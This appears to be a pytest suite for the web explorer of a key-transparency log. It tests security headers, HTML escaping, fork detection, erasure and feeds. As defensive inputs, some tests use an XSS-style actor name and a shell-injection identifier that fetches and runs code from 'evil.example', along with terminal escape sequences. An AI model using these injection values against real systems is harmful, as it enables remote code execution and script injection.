"""The explorer's pages over the application itself: what they show, whom they do not name, and what they claim."""

from __future__ import annotations

import base64
import html
import re
import shlex
import xml.etree.ElementTree as ET
from dataclasses import replace
from urllib.parse import quote

import pytest

from ktlog.operator.keys import load_checkpoint_signers
from ktlog.operator.shred import plan_for
from ktlog.pkd.keys import encode_public_key, encode_root, key_hash
from ktlog.pkd.messages import AddKey, Fireproof
from ktlog.tlog.checkpoint import Checkpoint
from ktlog.tlog.encoding import encode_base64, encode_base64url
from ktlog.tlog.evidence import parse_evidence, verify_evidence
from ktlog.tlog.note import parse_vkey, sign_checkpoint
from ktlog.tlog.policy import LogKey, Policy
from ktlog.tlog.proof import verify_proof
from ktlog.web.app import create_app
from ktlog.web.explorer import people
from ktlog.web.explorer.live import Live
from ktlog.wire.actor import ML_DSA_44, ActorDocument, Multikey
from tests.explorer_site import Site, page, readable
from tests.operator_world import NOW, ORIGIN
from tests.pkd_samples import ALICE, BOB, CAROL, public, quick_argon2  # noqa: F401
from tests.reading_log import AGE, AGE_ID, DAVE, fill, key_id, reading_log

BROWSER = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
NOBODY = "https://example.com/users/nobody"
ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with reading_log(tmp_path_factory.mktemp("explorer") / "log") as log:
        fill(log.desk)
        log.publish()
        yield Site(log)


WEIRD = "https://example.com/users/(';alert(1)//&quot;"


@pytest.fixture(scope="module")
def later(tmp_path_factory):
    """Where Dave began anew, and somebody has a name that is none."""
    with reading_log(tmp_path_factory.mktemp("later") / "log") as log:
        fill(log.desk)
        log.desk.send(AddKey(DAVE, public("e"), NOW + 20), "e")
        log.desk.send(AddKey(WEIRD, public("x"), NOW + 20), "x")
        log.publish()
        yield Site(log)


def every_page() -> list[str]:
    people_ = (ALICE, BOB, CAROL, DAVE, NOBODY)
    return [
        "/", "/witnesses", "/peers", "/monitor", "/about", "/checkpoints", "/checkpoints?old=3&new=9", "/search",
        "/search?q=x", "/nothing/x",
        *(f"/e/{index}" for index in range(11)), *map(page, people_), "/domains/example.com/feed.atom",
        *(page(name, "/feed.atom") for name in people_), *(page(name, "?before=5") for name in people_),
    ]


# --- all of them


@pytest.mark.parametrize("target", [
    "/", "/witnesses", "/peers", "/monitor", "/about", "/checkpoints?old=3", "/e/5", page(ALICE), "/e/77",
])
def test_a_page_is_safe_in_a_browser_complete_without_script_and_not_signed(site, target):
    answer = site.ask(target, 404 if target == "/e/77" else 200)
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "script-src" not in policy and "unsafe" not in policy
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    assert not {"Set-Cookie", "Signature"} & set(answer.headers.keys())
    html = answer.text
    assert "<script" not in html and " style=" not in html
    assert '<html lang="en">' in html and 'href="#main"' in html and "<title>" in html
    assert not re.findall(r'(?:src|action)="(?:https?:)?//', html), "nothing is loaded from elsewhere"
    style = re.search(r'href="(/explorer/[^"]+\.css)"', html)[1]
    assert "immutable" in site.ask(style).headers["Cache-Control"]


@pytest.mark.parametrize("target", [
    "/", "/witnesses", "/peers", "/monitor", "/about", "/checkpoints?old=3&new=9", "/e/8", page(BOB), "/search?q=x y",
])
def test_every_page_has_its_twins_for_programs(site, target):
    status = 404 if "x y" in target else 200
    as_json = site.json(target, status)
    assert as_json["schema"].startswith("ktlog/")
    both = "&" if "?" in target else "?"
    text = site.ask(f"{target}{both}format=txt", status)
    assert text.content_type.startswith("text/plain") and text.text.startswith("# ")
    assert site.ask(target, status, Accept="application/json").json.keys() == as_json.keys()
    assert site.ask(f"{target}{both}format=pdf", 400).content_type.startswith("text/html")


def test_only_what_names_nobody_may_be_kept(site):
    for target in every_page():
        answer = site.client.get(target, headers={"Host": ORIGIN})
        text = readable(answer.text)
        if "//example.com/users" in text or "//example.net/users" in text:
            assert answer.headers["Cache-Control"] == "no-store", target
            assert "noindex" in answer.headers["X-Robots-Tag"]


def test_the_rest_of_the_log_is_as_it_was(site):
    assert site.ask("/", 303, Accept='application/ld+json; profile="https://www.w3.org/ns/activitystreams"').headers[
        "Location"] == f"https://{ORIGIN}/users/pubkeydir"
    for target in ("/nothing", "//", "//e/1", "/a", "/" + "x" * 9000):
        answer = site.ask(target, 404)
        assert answer.json["code"] == "not_found" and "Signature" in answer.headers
    assert site.client.get("/", headers={"Host": "other.example"}).status_code == 421


@pytest.mark.parametrize(("accept", "kind"), [
    (BROWSER, "text/html"), ("text/html", "text/html"), ("*/*", "application/json"), ("application/json", "application/json"),
    ("application/json, text/html;q=0.9", "application/json"), ("text/html;q=x, ;;", "application/json"), ("", "application/json"),
])
def test_where_nothing_is_a_browser_gets_a_page_and_a_program_the_error(site, accept, kind):
    for target in ("/nothing", "//e/1", "/a", "/explorer/other.css", "/" + "x" * 9000):
        answer = site.ask(target, 404, Accept=accept)
        assert answer.mimetype == kind and answer.headers["Cache-Control"] == "no-store"
        assert answer.headers["Vary"] == "Accept"
        if kind == "text/html":
            assert "There is nothing at this address." in answer.text and "Content-Security-Policy" in answer.headers
            assert "xxxx" not in answer.text and "/search" in answer.text
        else:
            assert answer.json["code"] == "not_found" and "Signature" in answer.headers


def test_without_the_setting_there_is_no_page(site):
    client = create_app(replace(site.log.settings, explorer=False)).test_client()
    assert client.get("/e/1", headers={"Host": ORIGIN, "Accept": BROWSER}).json["code"] == "not_found"
    assert [client.get(path, headers={"Host": ORIGIN}).status_code for path in ("/", "/e/1", "/api/info")] == [404, 404, 200]
    client = create_app(replace(site.log.settings, explorer_live=False)).test_client()
    assert client.get(page(ALICE, "/live"), headers={"Host": ORIGIN}).status_code == 404
    assert "/live" not in client.get(page(ALICE), headers={"Host": ORIGIN}).text


# --- the log


def test_the_status_says_how_large_it_is_and_that_nobody_vouches(site):
    status = site.json("/")
    assert (status["entries"], status["checkpoint"]["size"], status["waiting"], status["growth"][-1]) == (11, 11, 0, 11)
    assert len(status["growth"]) == 31 and status["verdict"]["state"] == "warn"
    assert "No witness vouches" in status["verdict"]["sentence"]


def test_before_anything_is_published(tmp_path):
    with reading_log(tmp_path / "log") as log:
        site = Site(log)
        assert site.json("/")["verdict"]["state"] == "none"
        site.ask("/checkpoints", 404)
        log.desk.send(AddKey(ALICE, public("a"), NOW))
        assert site.json("/")["waiting"] == 1
        pending = site.json(page(ALICE))
        assert (pending["keys"], pending["timeline"][0]["published"]) == ([], False)
        assert "pending" in site.ask("/e/0").text
        site.ask("/e/0.tlog-proof", 404)
        assert not ET.fromstring(site.ask(page(ALICE, "/feed.atom")).data).findall(f"{ATOM}entry")


def test_one_is_not_called_many(tmp_path):
    many = re.compile(r"(?<![\d,.])1 (?:entries|hashes|witnesses|verifiers|erasures)|these 1|1 hash tie |hashes ties")
    with reading_log(tmp_path / "log") as log:
        site = Site(log)
        for index, (name, key) in enumerate(((ALICE, "a"), (DAVE, "d"))):
            log.desk.send(AddKey(name, public(key), NOW), key)
            log.publish()
            root = encode_base64(log.desk.store.root_after(1))
            targets = ["/", f"/e/{index}", "/checkpoints?old=1", page(name), "/peers", "/witnesses", "/about"]
            texts = [site.ask(target).text for target in targets]
            texts += [site.paste(forged(site, *given)).text for given in ((1,), (9, bytes(32)))]
            texts.append(site.ask("/e/7", 404).text)
            assert [found[0] for text in texts for found in many.finditer(text)] == []
            assert ("published tree of 1 entry", "published tree of 2 entries")[index] in texts[1]
            assert site.found(root) == "/checkpoints?old=1"
        assert "1 hash ties this entry" in texts[1]


def test_the_growth_of_past_days_is_asked_for_once(site, monkeypatch):
    explorer = site.app.extensions["ktlog_explorer"]
    first = explorer.growth()
    monkeypatch.setattr(explorer.context.store, "sizes_at", None)
    assert explorer.growth() == first and len(explorer._days) == 30


def test_two_sizes_are_proven_consistent(site):
    proof = site.json("/checkpoints?old=3")["consistency"]
    assert (proof["old-size"], proof["new-size"], len(proof["proof"])) == (3, 11, 5)
    for query in ("old=5&new=3", "old=1&new=12", "old=x", "old=1&old=2"):
        site.ask(f"/checkpoints?{query}", 400)


def forged(site: Site, size: int, root: bytes | None = None, origin: str = ORIGIN) -> bytes:
    """A checkpoint under the log's own keys, of its true root or another."""
    root = site.log.desk.store.root_after(size) if root is None else root
    return sign_checkpoint(Checkpoint(origin, size, root), load_checkpoint_signers(site.log.settings.keys, ORIGIN), NOW)


def test_a_saved_checkpoint_is_compared(site):
    true = forged(site, 4)
    assert site.paste(true).json["judged"]["code"] == "extends"
    assert site.paste(true.decode().replace("\n", "\r\n").rstrip()).json["judged"]["code"] == "extends"
    assert site.paste(true.replace(b"\n4\n", b"\n5\n")).json["judged"]["code"] == "not-signed"
    assert site.paste(true[:-300]).json["judged"]["code"] in ("unreadable", "not-signed")
    assert site.paste(forged(site, 99, bytes(32))).json["judged"]["code"] == "rolled-back"
    assert site.paste("nonsense").json["judged"]["code"] == "unreadable"
    assert site.paste(forged(site, 1, origin="other.example")).json["judged"]["code"] == "other-log"


def damaged(note: bytes, at: int) -> bytes:
    """With the signature of its line *at* changed in one bit."""
    lines = note.rstrip(b"\n").split(b"\n")
    words, _, blob = lines[at].rpartition(b" ")
    signature = bytearray(base64.b64decode(blob))
    signature[-1] ^= 1
    lines[at] = words + b" " + base64.b64encode(signature)
    return b"\n".join(lines) + b"\n"


@pytest.mark.parametrize("line", [-1, -2])
def test_one_damaged_line_of_two_hides_no_fork(site, line):
    answer = site.paste(damaged(forged(site, 5, bytes(32)), line), download="1")
    evidence = parse_evidence(answer.data)
    verify_evidence(evidence, evidence.vkey)
    judged = site.paste(damaged(forged(site, 5), line)).json["judged"]
    assert judged["code"] == "extends" and "1 line of this log's in your copy did not verify" in judged["advice"]
    both = damaged(damaged(forged(site, 5), -1), -2)
    assert site.paste(both).json["judged"]["code"] == "not-signed"


@pytest.mark.parametrize("size", [4, 5, 11])
def test_a_fork_is_handed_out_as_evidence(site, size):
    judged = site.paste(forged(site, size, bytes(32)))
    assert (judged.json["judged"]["code"], judged.json["judged"]["state"]) == ("forked", "bad")
    file = site.paste(forged(site, size, bytes(32)), download="1")
    assert "attachment" in file.headers["Content-Disposition"]
    evidence = parse_evidence(file.data)
    assert str(evidence.vkey) in site.json("/about")["vkeys"]
    verify_evidence(evidence, evidence.vkey)


# --- entries


def test_an_entry_shows_the_way_to_the_root_and_gives_its_proof(site):
    store = site.log.desk.store
    policy = Policy(tuple(LogKey(parse_vkey(text)) for text in site.json("/about")["vkeys"]))
    for index in range(11):
        shown = site.json(f"/e/{index}")
        assert shown["root"] == store.root_after(11).hex() and shown["path"]
        proof, leaf = site.ask(f"/e/{index}.tlog-proof").data, site.ask(f"/e/{index}.leaf").data
        assert verify_proof(proof, leaf, policy, NOW).checkpoint.size == 11
    assert site.json("/e/7")["subjects"] == [BOB, CAROL]
    html = site.ask("/e/7").text
    assert store.root_after(11).hex()[:10] in re.search(r'<svg class="path".*?</svg>', html, re.DOTALL)[0]
    for index, status in (("11", 404), ("x", 400), ("01", 400), ("9" * 30, 400)):
        site.ask(f"/e/{index}", status)


# --- actors


def test_an_actor_has_its_keys_and_its_timeline(site):
    alice = site.json(page(ALICE))
    (key,) = alice["keys"]
    assert (key["fingerprint"], key["key-id"], key["leaf-index"]) == (key_hash(public("c")).hex(), key_id(2), 2)
    assert [aux["aux-data"] for aux in alice["auxiliary"]] == [AGE]
    assert [row["leaf-index"] for row in alice["timeline"]] == [6, 5, 4, 3, 2, 0]
    assert alice["reset"] is None and not any(row["reset"] for row in alice["timeline"])
    moved = site.json(page(BOB))
    assert (moved["status"], moved["timeline"][0]["other-actor"]) == ("moved away", CAROL)
    assert site.json(page(DAVE))["timeline"][0]["operator"] == ALICE
    html = site.ask(page(ALICE)).text
    assert '<svg' in html and "What is proven, and what is not" in html and AGE in html
    assert site.ask(page(ALICE).replace("%2F", "/").replace("%3A", ":"), 303).headers["Location"] == page(ALICE)
    assert "example.<wbr>com/<wbr>users/<wbr>alice</h1>" in html and f"<title>{ALICE} " in html
    site.ask("/a/alice", 400)


def test_a_timeline_has_pages(site, monkeypatch):
    monkeypatch.setattr(people.timeline, "__defaults__", (4, None))
    first = site.json(page(ALICE))
    assert [row["leaf-index"] for row in first["timeline"]] == [6, 5, 4, 3] and first["older"] == 3
    second = site.json(page(ALICE, "?before=3"))
    assert [row["leaf-index"] for row in second["timeline"]] == [2, 0] and second["older"] is None


def test_a_new_beginning_is_shown_loudly(later):
    dave = later.json(page(DAVE))
    assert (dave["generation"], dave["reset"]["leaf-index"]) == (2, 11)
    assert [row["reset"] for row in dave["timeline"]] == [True, False, False]
    assert "treat this person as a stranger" in later.ask(page(DAVE)).text
    assert "(reset)" in later.ask(page(DAVE, "/feed.atom")).text


def test_nobody_is_no_page(site):
    assert site.json(page(NOBODY), 404)["code"] == "never_enrolled"
    site.ask(page(NOBODY, "/feed.atom"), 404)


def test_what_an_actor_is_called_is_only_text(later):
    html = later.ask(page(WEIRD)).text
    assert "';alert" not in html and "&amp;quot;" in html
    ET.fromstring(later.ask(page(WEIRD, "/feed.atom")).data)
    assert "<b>" not in later.ask("/search?q=%3Cb%3E", 404).text


def test_a_command_to_copy_has_the_id_as_one_word(tmp_path):
    evil = "https://example.com/u;curl$IFS-O$IFS'evil.example/x';sh&(x)*"
    with reading_log(tmp_path / "log") as log:
        log.desk.send(AddKey(evil, public("a"), NOW))
        text = readable(Site(log).ask(page(evil)).text)
    command = html.unescape(re.search(r"<pre[^>]*>(ktlog lookup.*?)</pre>", text)[1])
    words = shlex.shlex(command, posix=True, punctuation_chars=True)  # which parts words at ; & ( ) as a shell does
    words.whitespace_split = True
    # Which log serves a domain is for the asker to say: without it the command would only ask for it.
    assert list(words) == ["ktlog", "lookup", "--policy", "my.policy", "--domain", f"example.com={ORIGIN}", evil]


def test_a_handle_is_shown_only_where_the_search_leads_with_it(site):
    assert site.json(page(ALICE, "?handle=alice@example.com"))["handle"] == "@alice@example.com"
    for text in ("@alice@bank.example", "@bob@example.com", "alice", "%1b[2J", ""):
        assert site.json(page(ALICE, f"?handle={text}"))["handle"] is None, text


def test_a_terminal_is_not_told_what_to_do(site):
    asked = "\x1b[31m\x9b1m\r\u202ex"
    for form in ("txt", "json"):
        answer = site.ask(f"/search?q={quote(asked)}&format={form}", 404)
        assert "\\u001b[31m\\u009b1m" in answer.text and "\\u202ex" in answer.text
        assert not set(asked[:-1]) & set(answer.text) - set("[31m")
    assert site.json(f"/search?q={quote(asked)}", 404)["asked"] == asked


def test_what_is_not_published_yet_is_marked(tmp_path):
    with reading_log(tmp_path / "log") as log:
        fill(log.desk)
        log.publish()
        log.desk.send(Fireproof(ALICE, NOW + 60), "c")
        log.desk.send(AddKey(DAVE, public("e"), NOW + 60), "e")
        log.desk.send(AddKey(NOBODY, public("f"), NOW + 60), "f")
        site = Site(log)
        assert site.json(page(CAROL))["pending"] is None
        assert site.json(page(ALICE))["pending"] == {"entries": 1, "members": ["fireproof", "version"], "enrolled": True}
        assert "Fireproof (pending, not published yet)" in site.ask(page(ALICE)).text
        dave = site.json(page(DAVE))["pending"]
        assert dave["members"] == ["status", "fireproof", "version", "generation", "reset"]
        assert "This is pending, and not published yet. Keys began anew" in site.ask(page(DAVE)).text
        assert not site.json(page(NOBODY))["pending"]["enrolled"]
        assert "there is no such actor yet" in site.ask(page(NOBODY)).text
        log.publish()
        assert site.json(page(ALICE))["pending"] is None and "(pending" not in site.ask(page(DAVE)).text


def test_a_key_that_waits_to_be_published_is_not_called_unlogged(tmp_path, monkeypatch):
    with reading_log(tmp_path / "log") as log:
        fill(log.desk)
        log.publish()
        log.desk.send(AddKey(ALICE, public("f"), NOW + 60), "c")
        site = Site(log)
        listed = tuple(Multikey(f"{ALICE}#{name}", ALICE, ML_DSA_44, public(name)) for name in ("f", "a"))
        found = Live(ActorDocument(ALICE, f"{ALICE}/inbox", listed, None, None), (), "", NOW)
        monkeypatch.setattr(site.app.extensions["ktlog_explorer"].live, "look", lambda actor_id, source: found)
        rows = site.json(page(ALICE, "/live"))["live"]["rows"]
        assert [row["words"] for row in rows] == [
            "withdrawn in the log, still published", "logged, not published yet", "logged, not in the actor document",
        ]


def test_after_an_erasure_no_page_and_no_feed_names_the_actor(tmp_path):
    with reading_log(tmp_path / "log") as log:
        fill(log.desk)
        log.publish()
        erase_and_look(Site(log))


def erase_and_look(fresh: Site) -> None:
    seen = [
        target for target in every_page()
        if "users/alice" in readable(fresh.client.get(target, headers={"Host": ORIGIN}).text)
    ]
    assert {"/e/0", page(ALICE), page(DAVE), "/domains/example.com/feed.atom"} <= set(seen)
    store = fresh.log.desk.store
    store.erase(plan_for(store, store.actor(ALICE)), store.state())
    prints = (key_hash(public("a")).hex(), key_hash(public("c")).hex(), AGE, AGE_ID)
    for target in every_page():
        for form in ("html", "json", "txt"):
            asked = f"{target}{'&' if '?' in target else '?'}format={form}"
            text = readable(fresh.client.get(asked, headers={"Host": ORIGIN}).text)
            assert "users/alice" not in text and "alice" not in text.replace("@alice@example.social", ""), target
            assert not any(item in text for item in prints), target
    assert fresh.json(page(ALICE), 404)["code"] == "erased"
    assert fresh.json(page(ALICE, "/live"), 404)["code"] == "erased"
    fresh.ask(page(ALICE, "/feed.atom"), 404)
    fresh.found(AGE_ID, 404)
    assert "erased" in fresh.ask("/e/0").text


# --- finding


def test_the_search_knows_what_it_was_given(site):
    store, key, root = site.log.desk.store, public("c"), site.log.desk.store.root_after(4)
    alice, tree = page(ALICE), "/checkpoints?old=4"
    record = store.records(3, 4)[0]
    for text, where in {
        ALICE: alice, ALICE.replace("https", "http"): alice, ALICE.removeprefix("https://"): alice, "example.com/@alice": alice, "https://example.com/@alice": alice,
        encode_public_key(key): alice, key_hash(key).hex(): alice, key_id(2): alice, AGE_ID: alice,
        " ".join(people_groups(key_hash(key).hex())): alice, key_hash(key).hex().upper(): alice,
        "@alice@example.com": f"{alice}?handle=%40alice%40example.com",
        "acct:alice@example.com": f"{alice}?handle=%40alice%40example.com",
        encode_root(root): tree, encode_base64(root): tree, root.hex(): tree,
        "#7": "/e/7", "7": "/e/7", " 7 ": "/e/7", encode_base64url(record.unique_hash): "/e/3", NOBODY: page(NOBODY),
    }.items():
        assert site.found(text) == where, text
    for text, words in {
        "@nobody@example.com": "a handle", "11": "the index of an entry", "f" * 64: "32 bytes in hexadecimal",
        "#1,000": "the index of an entry", key_id(0): "32 bytes in base64url", "ssh-ed25519 AAAA": None, "x" * 5000: None,
    }.items():
        understood = site.json(f"/search?q={quote(text, safe='')}", 404)["understood"]
        assert understood is None if words is None else understood.startswith(words)
    assert site.json("/search?q=example.com")["domain"] == "example.com"
    assert "You searched for" in site.ask(f"{alice}?handle=%40alice%40example.com").text


def people_groups(text: str) -> list[str]:
    return [text[at : at + 4] for at in range(0, len(text), 4)]


# --- feeds


def entries(feed: bytes) -> list[str]:
    return [entry.find(f"{ATOM}link").get("href").rpartition("/")[2] for entry in ET.fromstring(feed).findall(f"{ATOM}entry")]


def test_feeds_of_an_actor_and_of_a_domain(site, monkeypatch):
    feed = site.ask(page(ALICE, "/feed.atom"))
    assert entries(feed.data) == ["6", "5", "4", "3", "2", "0"]
    root = ET.fromstring(feed.data)
    assert all(root.find(f"{ATOM}{name}") is not None for name in ("id", "title", "updated", "author"))
    assert len({entry.find(f"{ATOM}id").text for entry in root.findall(f"{ATOM}entry")}) == 6
    again = site.ask(page(ALICE, "/feed.atom"), 304, **{"If-None-Match": feed.headers["ETag"]})
    assert again.data == b""
    few = site.ask("/domains/example.com/feed.atom").data
    assert entries(few)[:3] == ["10", "9", "8"] or entries(few)[:2] == ["10", "9"]
    monkeypatch.setattr(people, "DOMAIN_ACTORS", 1)  # as of a domain with too many
    assert entries(site.ask("/domains/example.com/feed.atom").data) == entries(few)
    monkeypatch.setattr(people, "DOMAIN_SCAN", 2)
    assert entries(site.ask("/domains/example.com/feed.atom").data) == ["10", "9"]
    assert entries(site.ask("/domains/other.example/feed.atom").data) == []
    site.ask("/domains/no_host/feed.atom", 400)


